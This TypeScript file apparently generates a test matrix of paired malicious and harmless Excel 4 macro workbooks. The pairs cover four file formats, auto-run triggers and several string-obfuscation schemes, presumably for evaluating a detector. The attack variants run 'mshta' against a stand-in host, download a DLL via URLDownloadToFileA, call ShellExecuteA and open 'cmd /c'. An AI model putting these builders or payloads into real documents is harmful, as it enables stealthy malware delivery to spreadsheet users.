/** Excel 4 macros: each file format with each trigger, and each act with each way to hide its texts. */

import { tokensB, writeXlsb } from '../campaigns/excel4.ts'
import { tokens, writeBiffXlm, writeXlm } from '../xlm-writer.ts'
import type { Pair } from './matrix.ts'

type Node = string | number | { join: readonly Node[] } | { cell: number } | { call: string; args: readonly Node[] }

/** Numbers of functions, and of commands with the highest bit. A fixed count of arguments is not stored. */
const NUMBERS: Readonly<Record<string, number>> = {
  EXEC: 110,
  CHAR: 111,
  CALL: 150,
  REGISTER: 149,
  MID: 31,
  SUBSTITUTE: 120,
  GOTO: 53,
  HALT: 54,
  'SET.VALUE': 108,
  'SET.NAME': 88,
  EVALUATE: 257,
  FORMULA: 0x8000 | 96,
  ALERT: 0x8000 | 118,
  RUN: 0x8000 | 17,
  'FORMULA.FILL': 0x8000 | 97,
  'ON.TIME': 0x8000 | 148,
  INITIATE: 175,
  FOPEN: 132,
}
const FIXED = new Set(['CHAR', 'MID', 'SET.VALUE', 'INITIATE'])

const call = (name: string, ...args: readonly Node[]): Node => ({ call: name, args })

function asText(node: Node): string {
  if (typeof node === 'string') return `"${node.replaceAll('"', '""')}"`
  if (typeof node === 'number') return String(node)
  if ('join' in node) return node.join.map(asText).join('&')
  return 'cell' in node ? `R${node.cell + 1}C1` : `${node.call}(${node.args.map(asText).join(',')})`
}

function asTokens(node: Node, kit: typeof tokens | typeof tokensB): Buffer {
  if (typeof node === 'string') return kit.text(node)
  if (typeof node === 'number') return kit.number(node)
  if ('cell' in node) return kit.cell(node.cell, 0)
  if ('join' in node) {
    const join = 'joined' in kit ? kit.joined : kit.concatenated
    return Buffer.concat(node.join.flatMap((each, i) => [asTokens(each, kit), ...(i === 0 ? [] : [join])]))
  }
  const number = NUMBERS[node.call] ?? 0
  const args = node.args.map((each) => asTokens(each, kit))
  return Buffer.concat([...args, FIXED.has(node.call) ? kit.fixed(number) : kit.call(number, args.length)])
}

/** In XML, cells are named by letters. */
const inXml = (node: Node): string => asText(node).replace(/\bR(\d+)C1\b/g, 'A$1')

type Format = (formulas: readonly Node[], trigger: string | null) => Buffer
const BUILT_IN: Readonly<Record<string, number>> = { Auto_Open: 1, Auto_Close: 2, Auto_Activate: 0xa }
const FORMATS: Readonly<Record<string, Format>> = {
  xlsm: (formulas, trigger) =>
    writeXlm({
      formulas: formulas.map(inXml),
      names: trigger === null ? [] : [trigger in BUILT_IN ? `_xlnm.${trigger}` : trigger],
      state: 'veryHidden',
    }),
  xlsb: (formulas, trigger) =>
    writeXlsb({
      formulas: formulas.map((each) => asTokens(each, tokensB)),
      name: trigger === null ? 'total' : trigger in BUILT_IN ? `_xlnm.${trigger}` : trigger,
    }),
  xls: (formulas, trigger) =>
    writeBiffXlm({
      formulas: formulas.map((each) => asTokens(each, tokens)),
      name: trigger === null ? null : (BUILT_IN[trigger] ?? trigger),
      state: 2,
    }),
  slk: (formulas, trigger) =>
    Buffer.from(
      `ID;P\r\nO;E\r\n${trigger === null ? '' : `NN;N${trigger};ER1C1\r\n`}${formulas
        .map((each, i) => `C;X1;Y${i + 1};K0;E${asText(each).replaceAll(';', ';;')}\r\n`)
        .join('')}E\r\n`,
    ),
}
const TRIGGERS = ['Auto_Open', 'Auto_Close', 'auto_open_1', 'Auto_Activate'] as const

interface Hiding {
  name: string
  /** Formulas that come first, and the text from them. `from`: the first row that they get. */
  hide(text: string, from: number): { before: readonly Node[]; text: Node }
}
const HIDINGS: readonly Hiding[] = [
  { name: 'as they are', hide: (text) => ({ before: [], text }) },
  {
    name: 'letter by letter',
    hide: (text) => ({
      before: [],
      text: { join: [...text].map((letter) => call('CHAR', letter.charCodeAt(0))) },
    }),
  },
  {
    name: 'in pieces',
    hide: (text) => ({ before: [], text: { join: text.match(/[\s\S]{1,3}/g) ?? [] } }),
  },
  {
    name: 'in cells',
    hide(text, from) {
      const pieces = text.match(/[\s\S]{1,12}/g) ?? []
      return {
        before: pieces.map((piece, i) => call('SET.VALUE', { cell: from + 200 + i }, piece)),
        text: { join: pieces.map((_, i) => ({ cell: from + 200 + i })) },
      }
    },
  },
  {
    name: 'cut from longer texts',
    hide: (text) => ({
      before: [],
      text: { join: (text.match(/[\s\S]{1,20}/g) ?? []).map((piece) => call('MID', `xx${piece}yy`, 3, piece.length)) },
    }),
  },
  {
    name: 'with a separator',
    hide: (text) => ({ before: [], text: call('SUBSTITUTE', [...text].join('~'), '~', '') }),
  },
]

interface Act {
  name: string
  /** Texts that are hidden, and what is done with them. */
  texts: readonly string[]
  act(texts: readonly Node[], row: number): readonly Node[]
}
const COMMAND = 'mshta http://192.0.2.1/a'
const ACTS: readonly Act[] = [
  { name: 'starts a program', texts: [COMMAND], act: ([command = '']) => [call('EXEC', command, 2)] },
  {
    name: 'loads and saves a file',
    texts: ['urlmon', 'URLDownloadToFileA', 'http://192.0.2.1/a', 'C:\\Users\\Public\\a.dll'],
    act: ([library = '', name = '', address = '', path = '']) => [
      call('CALL', library, name, 'JJCCJJ', 0, address, path, 0, 0),
    ],
  },
  {
    name: 'registers a function of Windows',
    texts: ['Shell32', 'ShellExecuteA', COMMAND],
    act: ([library = '', name = '', command = '']) => [
      call('REGISTER', library, name, 'JJCCCCJ', 'Run', 0, 1, 9),
      call('CALL', library, name, 'JJCCCCJ', 0, 'open', command, '', 0, 5),
    ],
  },
  {
    name: 'writes a formula',
    texts: [`=EXEC("${COMMAND}")`],
    act: ([formula = ''], row) => [call('FORMULA', formula, { cell: row + 20 }), call('GOTO', { cell: row + 20 })],
  },
  {
    name: 'evaluates a text',
    texts: [`EXEC("${COMMAND}")`],
    act: ([formula = '']) => [call('EVALUATE', formula)],
  },
  {
    name: 'talks to a shell',
    texts: ['cmd', `/c ${COMMAND}`],
    act: ([name = '', command = '']) => [call('INITIATE', name, command)],
  },
]
const PLAIN: readonly string[] = ['The report of this month is ready.', 'Total', 'Print', 'Sheet']

function formulasOf(act: Act, hiding: Hiding, isHarmless: boolean): Node[] {
  const before: Node[] = []
  const shown = act.texts.map((text, i) => {
    const hidden = hiding.hide(isHarmless ? (PLAIN[i % PLAIN.length] ?? '') : text, before.length)
    before.push(...hidden.before)
    return hidden.text
  })
  const after = isHarmless ? shown.map((text) => call('ALERT', text, 2)) : act.act(shown, before.length)
  return [...before, ...after, call('HALT')]
}

function table(): Record<string, Pair[]> {
  const tables: Record<string, Pair[]> = {}
  for (const [format, write] of Object.entries(FORMATS)) {
    const pairs: Pair[] = []
    for (const act of ACTS)
      for (const hiding of HIDINGS) {
        const trigger = TRIGGERS[pairs.length % TRIGGERS.length] ?? null
        pairs.push({
          name: `${act.name}, texts ${hiding.name}, ${trigger}`,
          attack: write(formulasOf(act, hiding, false), trigger),
          harmless: write(formulasOf(act, hiding, true), trigger),
        })
      }
    tables[`Excel 4 macros in ${format}`] = pairs
  }
  return tables
}

export const EXCEL_4: Readonly<Record<string, readonly Pair[]>> = table()
